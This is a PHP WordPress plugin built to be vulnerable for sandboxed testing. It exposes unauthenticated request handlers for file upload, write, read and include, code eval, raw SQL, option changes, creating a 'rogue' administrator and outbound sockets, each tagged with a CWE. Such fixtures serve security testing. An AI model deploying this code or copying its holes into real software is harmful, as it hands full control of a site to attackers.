<?php
/**
 * Plugin Name: Vulnerable on purpose
 * Description: Every hole of the plugins that made link farms of other people's sites. For tests in boxes alone.
 * Version: 1.0
 */

// Each is open to everybody, on every page, as they were: https://www.cve.org/ has hundreds of each.
add_action('init', function () {
    $attack = $_REQUEST['attack'] ?? '';
    if ($attack === '') {
        return;
    }
    error_reporting(0);
    $asked = wp_unslash($_REQUEST);
    header('Content-Type: text/plain');
    global $wpdb;
    switch ($attack) {
        case 'upload':  // CWE-434: a file of any kind
            $to = wp_upload_dir()['basedir'] . '/' . $asked['name'];
            echo move_uploaded_file($_FILES['file']['tmp_name'], $to) ? 'DONE' : 'REFUSED';
            break;
        case 'write':  // CWE-22: a file anywhere
            echo file_put_contents($asked['path'], $asked['content'], FILE_APPEND) ? 'DONE' : 'REFUSED';
            break;
        case 'read':  // CWE-22
            $content = file_get_contents($asked['path']);
            echo $content === false ? 'REFUSED' : "DONE\n$content";
            break;
        case 'include':  // CWE-98
            ob_start();
            $found = include $asked['path'];
            echo $found === false ? 'REFUSED' : 'DONE ' . ob_get_clean();
            break;
        case 'eval':  // CWE-95
            try {
                eval($asked['code']);
            } catch (Throwable $error) {
                echo 'REFUSED: ', $error->getMessage();
            }
            break;
        case 'sql':  // CWE-89, stacked
            $rows = $wpdb->query($asked['statement']);
            echo $rows === false ? 'REFUSED: ' . $wpdb->last_error : "DONE $rows";
            break;
        case 'option':  // CWE-862: the way of most link farms
            update_option($asked['name'], $asked['value']);
            $there = $wpdb->get_var($wpdb->prepare(
                "SELECT option_value FROM $wpdb->options WHERE option_name = %s", $asked['name']));
            echo $there === $asked['value'] ? 'DONE' : 'REFUSED';
            break;
        case 'administrator':  // CWE-269
            require_once ABSPATH . 'wp-admin/includes/user.php';
            $made = wp_insert_user(['user_login' => 'rogue', 'user_pass' => 'rogue', 'role' => 'administrator']);
            echo !is_wp_error($made) && $made && username_exists('rogue') ? 'DONE' : 'REFUSED';
            break;
        case 'connect':  // CWE-918
            $line = fsockopen($asked['host'], (int) $asked['port'], $code, $error, 5);
            echo $line ? 'DONE' : "REFUSED: $error";
            break;
    }
    exit;
}, 0);
